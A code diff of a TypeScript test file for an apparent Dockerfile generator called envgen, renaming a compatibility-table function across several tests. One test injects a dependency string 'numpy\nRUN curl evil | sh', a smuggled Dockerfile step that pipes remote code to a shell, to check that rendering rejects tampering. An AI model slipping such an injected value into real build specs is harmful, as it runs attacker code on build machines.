@@ -11,7 +11,7 @@ import { execa } from 'execa';
 import { describe, expect, it } from 'vitest';
 import { parse as parseYaml } from 'yaml';
 import { resolveSpec } from '../../src/compat/resolve-spec.js';
-import { buildTable } from '../../src/compat/table.js';
+import { compatTable } from '../../src/compat/table.js';
 import { type PlannedFile, renderPlan } from '../../src/render/plan.js';
 import { sealState } from '../../src/render/seal.js';
 import { parseSpecText } from '../../src/spec/load-spec.js';
@@ -23,7 +23,7 @@ const MATRIX = readFileSync(
 
 function plan(specText: string): PlannedFile[] {
   const loaded = parseSpecText(specText, 'envgen.yaml');
-  const { models, problems } = resolveSpec(buildTable(), loaded, Object.keys(loaded.spec.models));
+  const { models, problems } = resolveSpec(compatTable(), loaded, Object.keys(loaded.spec.models));
   expect(problems).toEqual([]);
   return renderPlan({ specFile: 'envgen.yaml', spec: loaded.spec, models, version: '0.0.0-test' });
 }
@@ -345,7 +345,7 @@ describe('the last guard before rendering', () => {
       'version: 1\nmodels:\n  m:\n    torch: "2.4"\n    cuda: cpu\n    source: pip\n',
       'envgen.yaml',
     );
-    const { models } = resolveSpec(buildTable(), loaded, ['m']);
+    const { models } = resolveSpec(compatTable(), loaded, ['m']);
     const tampered = models.map((m) => ({
       ...m,
       dependencies: [...m.dependencies, 'numpy\nRUN curl evil | sh'],
@@ -367,7 +367,7 @@ describe('the last guard before rendering', () => {
 
 describe('Dockerfiles of locked models (envgen lock)', () => {
   const loaded = parseSpecText(MATRIX, 'envgen.yaml');
-  const { models } = resolveSpec(buildTable(), loaded, Object.keys(loaded.spec.models));
+  const { models } = resolveSpec(compatTable(), loaded, Object.keys(loaded.spec.models));
   const locked = renderPlan({
     specFile: 'envgen.yaml',
     spec: loaded.spec,
@@ -460,7 +460,7 @@ describe("the repo's own packages and VCS requirements", () => {
 
   it('localPackages also follow a lock', () => {
     const loaded = parseSpecText(spec('    localPackages: ["."]\n'), 'envgen.yaml');
-    const { models } = resolveSpec(buildTable(), loaded, ['m']);
+    const { models } = resolveSpec(compatTable(), loaded, ['m']);
     const planned = renderPlan({
       specFile: 'envgen.yaml',
       spec: loaded.spec,
